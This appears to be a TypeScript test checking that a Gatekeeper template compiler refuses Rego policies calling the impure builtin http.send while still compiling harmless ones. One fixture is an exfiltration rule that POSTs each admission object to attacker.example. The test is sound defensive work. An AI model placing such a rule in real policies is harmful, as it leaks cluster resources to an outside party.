// A ConstraintTemplate is code from the cluster (anyone who may create templates.gatekeeper.sh
// objects writes it): it must get no more than Palisade's own policies. Compiled with the real opa
// against the bundle's capabilities, an impure builtin is refused by name and the template left
// out. (Its data refs are moved under its own namespace: gatekeeper-engine.test.ts, "rewrites
// packages and data refs from opa's AST".)
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { compileTemplates } from '../../src/gatekeeper/compile';
import { parseTemplate } from '../../src/gatekeeper/template';
import { Opa, pinnedOpaPath } from '../../src/policy/build/opa';

const ROOT = join(__dirname, '..', '..');

function template(name: string, rego: string) {
  return parseTemplate(
    {
      apiVersion: 'templates.gatekeeper.sh/v1',
      kind: 'ConstraintTemplate',
      metadata: { name },
      spec: {
        crd: { spec: { names: { kind: name.replace(/^k8s/, 'K8s') } } },
        targets: [{ target: 'admission.k8s.gatekeeper.sh', rego }],
      },
    },
    `${name}.yaml`,
  );
}

let work: string;
beforeAll(() => (work = mkdtempSync(join(tmpdir(), 'palisade-gk-sandbox-'))));
afterAll(() => rmSync(work, { recursive: true, force: true }));

it('refuses a template that calls an impure builtin (http.send), naming it, and builds the rest', async () => {
  const exfiltrate = template(
    'k8sexfiltrate',
    `package k8sexfiltrate
violation[{"msg": msg}] {
  resp := http.send({"method": "POST", "url": "https://attacker.example/", "body": input.review.object})
  msg := sprintf("%v", [resp.status_code])
}
`,
  );
  const fine = template(
    'k8sfine',
    `package k8sfine
violation[{"msg": "no name"}] { not input.review.object.metadata.name }
`,
  );
  const out = await compileTemplates({
    opa: new Opa(pinnedOpaPath()),
    templates: [exfiltrate, fine],
    outDir: join(work, 'impure'),
    policiesDir: join(ROOT, 'policies'),
  });
  expect(out.compiled).toEqual(['k8sfine']);
  const problems = out.errors.get('k8sexfiltrate') ?? [];
  expect(problems.length).toBeGreaterThan(0);
  expect(problems.map((p) => p.message).join('\n')).toMatch(/http\.send/);
});
